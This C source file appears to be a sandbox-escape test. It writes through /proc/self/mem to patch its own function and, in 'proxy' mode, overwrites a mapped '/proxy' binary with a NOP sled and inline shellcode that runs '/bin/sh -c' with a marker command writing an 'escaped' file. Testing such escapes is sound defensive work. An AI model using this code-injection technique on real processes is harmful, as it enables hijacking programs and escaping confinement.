/* overwrite [own|proxy]: writes code where code is, through /proc/self/mem. With `own` it changes a function of the program, with
 * `proxy` all of the proxy's code becomes a run of a shell, which leaves a file behind. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__asm__(".section .rodata\n"
	"shell_begin:\n"
	"	lea 1f(%rip), %rdi\n"
	"	lea 2f(%rip), %rax\n"
	"	lea 3f(%rip), %rbx\n"
	"	xor %edx, %edx\n"
	"	push %rdx\n"
	"	push %rbx\n"
	"	push %rax\n"
	"	push %rdi\n"
	"	mov %rsp, %rsi\n"
	"	mov $59, %eax\n"
	"	syscall\n"
	"	mov $60, %eax\n"
	"	mov $99, %edi\n"
	"	syscall\n"
	"1:	.asciz \"/bin/sh\"\n"
	"2:	.asciz \"-c\"\n"
	"3:	.asciz \"echo a shell ran; id >escaped\"\n"
	"shell_end:\n"
	".text\n");
extern const char shell_begin[], shell_end[];

__attribute__((noinline, aligned(64))) static int one(void)
{
	__asm__ volatile("nop; nop; nop; nop; nop; nop; nop; nop");
	return 1;
}

static int own(int memory)
{
	/* mov eax, 42; ret */
	const unsigned char code[] = {0xb8, 0x2a, 0, 0, 0, 0xc3};
	if (pwrite(memory, code, sizeof code, (long)one) < 0) return printf("write: %d\n", errno), 1;
	return printf("one() is %d\n", one()), 2;
}

static int proxy(int memory)
{
	char line[512];
	unsigned long start = 0, end = 0;
	FILE *maps = fopen("/proc/self/maps", "r");
	while (maps && fgets(line, sizeof line, maps))
		if (strstr(line, "r-xp") && strstr(line, "/proxy") && sscanf(line, "%lx-%lx", &start, &end) == 2) break;
	if (!start) return printf("the proxy is not seen\n"), 1;
	long len = end - start, shell = shell_end - shell_begin;
	char *code = malloc(len);
	memset(code, 0x90, len);
	memcpy(code + len - shell - 64, shell_begin, shell);
	if (pwrite(memory, code, len, start) < 0) return printf("write: %d\n", errno), 1;
	return printf("overwritten\n"), 2;
}

int main(int argc, char **argv)
{
	int memory = open("/proc/self/mem", O_RDWR);
	if (memory < 0) return printf("open: %d\n", errno), 1;
	return argc > 1 && !strcmp(argv[1], "proxy") ? proxy(memory) : own(memory);
}
